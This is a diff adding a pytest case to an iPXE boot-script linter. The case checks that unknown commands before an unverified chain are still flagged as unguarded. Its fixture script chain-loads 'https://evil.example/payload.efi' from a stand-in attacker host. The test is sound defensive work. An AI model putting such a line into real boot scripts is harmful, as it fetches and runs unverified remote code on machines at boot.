@@ -598,6 +598,19 @@ def test_an_imgverify_that_does_not_guard_the_boot_is_no_verification(name: str)
     assert "(path: line 1 -> " in finding.message
 
 
+@pytest.mark.parametrize("first", ["pciscan dev", "usbscan dev", "console", "colour 7",
+                                   "cpair 0", "fcstat", "iwstat", "ibstat", "nosuchcmd"])
+def test_a_command_the_model_does_not_know_does_not_end_the_path(first: str) -> None:
+    """iPXE builds carry commands the lint's model lacks (pciscan, console on UEFI ...):
+    one of them before an unverified chain succeeds on such a build and the chain runs
+    (a review booted it under OVMF). Taking it as 'command not found', which ends the
+    path, called that script guarded; a served script may go on past it."""
+    script = f"#!ipxe\n{first}\nchain https://evil.example/payload.efi\n".encode()
+    info = loaders.identify(script)
+    assert info.kind == "ipxe-script" and info.imgverify is False, info
+    assert "'chain' can execute" in (info.unguarded or ""), info.unguarded
+
+
 def _released_scripts() -> dict[str, str]:
     from trustboot.ipxe.script import ChainScript, render_chain_script
     from trustboot.release.render import MenuEntry, render_menu
